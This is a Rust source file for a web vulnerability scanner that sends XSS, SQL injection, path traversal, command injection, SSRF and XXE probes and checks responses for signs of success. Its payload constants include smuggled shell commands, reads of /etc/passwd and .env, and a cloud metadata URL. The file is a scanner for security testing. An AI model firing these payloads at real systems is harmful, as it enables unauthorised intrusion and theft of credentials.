//! Generic payload/signature vulnerability probing engine.
//!
//! Each vulnerability class pairs a payload list with a detection oracle.
//! Reflected classes (XSS, SQLi) run per query parameter of discovered
//! endpoints; the rest target small sets of conventional routes. Oracles are
//! pure functions over the captured response so they can be tested without a
//! network. Transport errors on a single payload attempt are swallowed:
//! "no evidence of vulnerability", never batch-fatal.

use log::debug;
use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;
use url::Url;

use crate::core::report::{Finding, Severity};
use crate::http::HttpClient;

pub const TOOL_NAME: &str = "webapp_scanner";

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
];

pub const SQLI_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "1' OR '1'='1' --",
    "' UNION SELECT NULL--",
    "1' AND sleep(5)--",
];

pub const PATH_TRAVERSAL_PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    "../../.env",
    "/etc/passwd",
    "../../windows/win.ini",
];

pub const COMMAND_PAYLOADS: &[&str] = &["; whoami", "| whoami", "127.0.0.1; id"];

pub const SSRF_PAYLOADS: &[&str] = &[
    "http://localhost",
    "http://127.0.0.1",
    "http://169.254.169.254/latest/meta-data/",
];

pub const XXE_PAYLOAD: &str = "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \
     \"file:///etc/passwd\">]><foo>&xxe;</foo>";

const SQL_ERROR_SIGNATURES: &[&str] = &["sql syntax", "mysql", "postgresql", "sqlstate", "odbc"];
const PATH_SIGNATURES: &[&str] = &["root:x:", "SECRET_KEY", "DB_PASSWORD", "[fonts]"];
const CMD_SIGNATURES: &[&str] = &["uid=", "gid=", "/bin/bash", "/bin/sh"];
const SSRF_SIGNATURES: &[&str] = &["localhost", "metadata", "ami-id"];

/// Wall-clock threshold for the time-based oracle. The sleep payloads ask
/// for 5 seconds; 4 gives margin against network jitter.
const TIME_BASED_THRESHOLD: Duration = Duration::from_secs(4);

/// True when the raw payload appears verbatim and was not neutralized by
/// output encoding.
pub fn payload_reflected_unescaped(body: &str, payload: &str) -> bool {
    body.contains(payload) && !reflection_is_encoded(body, payload)
}

/// Escaping heuristic: angle brackets in the payload were entity-encoded
/// somewhere in the response.
fn reflection_is_encoded(body: &str, payload: &str) -> bool {
    (body.contains("&lt;") && payload.contains('<'))
        || (body.contains("&gt;") && payload.contains('>'))
}

/// Case-insensitive database error fingerprint, if any.
pub fn sql_error_signature(body: &str) -> Option<&'static str> {
    let lower = body.to_lowercase();
    SQL_ERROR_SIGNATURES
        .iter()
        .find(|sig| lower.contains(*sig))
        .copied()
}

/// Time-based blind oracle: a delay payload that actually delayed.
pub fn time_based_delay(payload: &str, elapsed: Duration) -> bool {
    payload.to_lowercase().contains("sleep") && elapsed >= TIME_BASED_THRESHOLD
}

fn first_signature(body: &str, signatures: &[&'static str]) -> Option<&'static str> {
    signatures.iter().find(|sig| body.contains(*sig)).copied()
}

/// Replaces one query parameter's value, keeping the others intact.
fn with_param_value(url: &Url, param: &str, value: &str) -> Url {
    let pairs: Vec<(String, String)> = url
        .query_pairs()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();

    let mut out = url.clone();
    {
        let mut qp = out.query_pairs_mut();
        qp.clear();
        for (k, v) in &pairs {
            if k == param {
                qp.append_pair(k, value);
            } else {
                qp.append_pair(k, v);
            }
        }
    }
    out
}

pub struct WebAppScanner {
    client: Arc<HttpClient>,
    target: Url,
    endpoint_limit: usize,
}

impl WebAppScanner {
    pub fn new(client: Arc<HttpClient>, target: Url, endpoint_limit: usize) -> Self {
        Self {
            client,
            target,
            endpoint_limit,
        }
    }

    /// Probes fixed conventional routes first, then a bounded sample of the
    /// discovered parameterized endpoints, then the conventional reflected
    /// routes. Returns every finding; nothing here aborts the batch.
    pub async fn scan(&self, endpoints: &BTreeSet<String>) -> Vec<Finding> {
        let mut findings = Vec::new();

        // The route-based classes are independent of each other and of the
        // endpoint universe, so they probe concurrently.
        let (traversal, command, ssrf, xxe) = futures::join!(
            self.test_path_traversal(),
            self.test_command_injection(),
            self.test_ssrf(),
            self.test_xxe(),
        );
        findings.extend(traversal);
        findings.extend(command);
        findings.extend(ssrf);
        findings.extend(xxe);

        let parameterized: Vec<Url> = endpoints
            .iter()
            .filter_map(|e| Url::parse(e).ok())
            .filter(|u| u.query().map(|q| !q.is_empty()).unwrap_or(false))
            .take(self.endpoint_limit)
            .collect();

        for url in &parameterized {
            findings.extend(self.test_xss(url).await);
            findings.extend(self.test_sqli(url).await);
        }

        // Every conventional route gets both reflected classes, each with
        // its own seed parameter.
        for path in ["/xss/reflected", "/sql/error", "/sql/blind"] {
            if let Ok(base) = self.target.join(path) {
                let mut xss_url = base.clone();
                xss_url.set_query(Some("search=test"));
                findings.extend(self.test_xss(&xss_url).await);

                let mut sqli_url = base;
                sqli_url.set_query(Some("id=1"));
                findings.extend(self.test_sqli(&sqli_url).await);
            }
        }

        findings
    }

    /// Reflected XSS: substitute each payload per parameter; first hit per
    /// parameter short-circuits the remaining payloads.
    pub async fn test_xss(&self, url: &Url) -> Vec<Finding> {
        let params: Vec<String> = url.query_pairs().map(|(k, _)| k.to_string()).collect();
        let mut findings = Vec::new();

        for param in &params {
            for payload in XSS_PAYLOADS {
                let test_url = with_param_value(url, param, payload);
                let resp = match self.client.fetch(test_url.as_str()).await {
                    Ok(r) => r,
                    Err(e) => {
                        debug!("XSS probe failed for {}: {}", test_url, e);
                        continue;
                    }
                };

                if payload_reflected_unescaped(&resp.body, payload) {
                    findings.push(
                        Finding::new(
                            TOOL_NAME,
                            "Reflected XSS",
                            "Cross-Site Scripting (XSS)",
                            Severity::High,
                            format!("XSS in parameter '{}'", param),
                        )
                        .with_url(test_url.to_string())
                        .with_parameter(param.clone())
                        .with_payload(*payload),
                    );
                    break;
                }
            }
        }

        findings
    }

    /// SQL injection, two independent oracles per parameter: time-based for
    /// delay payloads, error-based via DB fingerprints. Either fires; the
    /// loop stops at the first success for that parameter.
    pub async fn test_sqli(&self, url: &Url) -> Vec<Finding> {
        let params: Vec<String> = url.query_pairs().map(|(k, _)| k.to_string()).collect();
        let mut findings = Vec::new();

        'params: for param in &params {
            for payload in SQLI_PAYLOADS {
                let test_url = with_param_value(url, param, payload);

                if payload.to_lowercase().contains("sleep") {
                    if let Ok(resp) = self.client.fetch(test_url.as_str()).await {
                        if time_based_delay(payload, resp.elapsed) {
                            findings.push(
                                Finding::new(
                                    TOOL_NAME,
                                    "Time-based Blind SQL Injection",
                                    "SQL Injection",
                                    Severity::Critical,
                                    format!("Time-based SQLi in '{}'", param),
                                )
                                .with_url(test_url.to_string())
                                .with_parameter(param.clone())
                                .with_payload(*payload),
                            );
                            continue 'params;
                        }
                    }
                }

                let resp = match self.client.fetch(test_url.as_str()).await {
                    Ok(r) => r,
                    Err(e) => {
                        debug!("SQLi probe failed for {}: {}", test_url, e);
                        continue;
                    }
                };

                if let Some(signature) = sql_error_signature(&resp.body) {
                    findings.push(
                        Finding::new(
                            TOOL_NAME,
                            "Error-based SQL Injection",
                            "SQL Injection",
                            Severity::Critical,
                            format!("Error-based SQLi in '{}'", param),
                        )
                        .with_url(test_url.to_string())
                        .with_parameter(param.clone())
                        .with_payload(*payload)
                        .with_evidence(format!("database error fingerprint: {}", signature)),
                    );
                    continue 'params;
                }
            }
        }

        findings
    }

    /// Path traversal against the conventional /file route.
    pub async fn test_path_traversal(&self) -> Vec<Finding> {
        let base = match self.target.join("/file") {
            Ok(u) => u,
            Err(_) => return Vec::new(),
        };

        for payload in PATH_TRAVERSAL_PAYLOADS {
            let test_url = with_param_value(&param_url(&base, "path"), "path", payload);
            let resp = match self.client.fetch(test_url.as_str()).await {
                Ok(r) => r,
                Err(e) => {
                    debug!("traversal probe failed: {}", e);
                    continue;
                }
            };

            if let Some(signature) = first_signature(&resp.body, PATH_SIGNATURES) {
                return vec![Finding::new(
                    TOOL_NAME,
                    "Path Traversal",
                    "Directory Traversal",
                    Severity::High,
                    "Path traversal allows file access".to_string(),
                )
                .with_url(test_url.to_string())
                .with_parameter("path")
                .with_payload(*payload)
                .with_evidence(format!("filesystem marker: {}", signature))];
            }
        }

        Vec::new()
    }

    /// OS command injection against the conventional /cmd/ping route.
    pub async fn test_command_injection(&self) -> Vec<Finding> {
        let base = match self.target.join("/cmd/ping") {
            Ok(u) => u,
            Err(_) => return Vec::new(),
        };

        for payload in COMMAND_PAYLOADS {
            let test_url = with_param_value(&param_url(&base, "host"), "host", payload);
            let resp = match self.client.fetch(test_url.as_str()).await {
                Ok(r) => r,
                Err(e) => {
                    debug!("command injection probe failed: {}", e);
                    continue;
                }
            };

            if let Some(signature) = first_signature(&resp.body, CMD_SIGNATURES) {
                return vec![Finding::new(
                    TOOL_NAME,
                    "OS Command Injection",
                    "Command Injection",
                    Severity::Critical,
                    "OS command injection detected".to_string(),
                )
                .with_url(test_url.to_string())
                .with_parameter("host")
                .with_payload(*payload)
                .with_evidence(format!("process identity marker: {}", signature))];
            }
        }

        Vec::new()
    }

    /// SSRF against the conventional /ssrf/fetch route.
    pub async fn test_ssrf(&self) -> Vec<Finding> {
        let base = match self.target.join("/ssrf/fetch") {
            Ok(u) => u,
            Err(_) => return Vec::new(),
        };

        for payload in SSRF_PAYLOADS {
            let test_url = with_param_value(&param_url(&base, "url"), "url", payload);
            let resp = match self.client.fetch(test_url.as_str()).await {
                Ok(r) => r,
                Err(e) => {
                    debug!("SSRF probe failed: {}", e);
                    continue;
                }
            };

            let lower = resp.body.to_lowercase();
            if let Some(signature) = first_signature(&lower, SSRF_SIGNATURES) {
                return vec![Finding::new(
                    TOOL_NAME,
                    "Server-Side Request Forgery",
                    "SSRF",
                    Severity::Critical,
                    "SSRF allows internal access".to_string(),
                )
                .with_url(test_url.to_string())
                .with_parameter("url")
                .with_payload(*payload)
                .with_evidence(format!("internal marker: {}", signature))];
            }
        }

        Vec::new()
    }

    /// XXE via a crafted external-entity document posted to /xxe/parse.
    pub async fn test_xxe(&self) -> Vec<Finding> {
        let test_url = match self.target.join("/xxe/parse") {
            Ok(u) => u,
            Err(_) => return Vec::new(),
        };

        let resp = match self
            .client
            .post_form(test_url.as_str(), &[("xml", XXE_PAYLOAD)])
            .await
        {
            Ok(r) => r,
            Err(e) => {
                debug!("XXE probe failed: {}", e);
                return Vec::new();
            }
        };

        if resp.body.contains("root:x:") {
            let truncated: String = XXE_PAYLOAD.chars().take(50).collect();
            return vec![Finding::new(
                TOOL_NAME,
                "XML External Entity (XXE)",
                "XXE Injection",
                Severity::Critical,
                "XXE allows file access".to_string(),
            )
            .with_url(test_url.to_string())
            .with_payload(format!("{}...", truncated))];
        }

        Vec::new()
    }
}

/// Seeds a URL with a placeholder value for the given parameter so the
/// substitution helper has a pair to replace.
fn param_url(base: &Url, param: &str) -> Url {
    let mut url = base.clone();
    url.set_query(Some(&format!("{}=test", param)));
    url
}
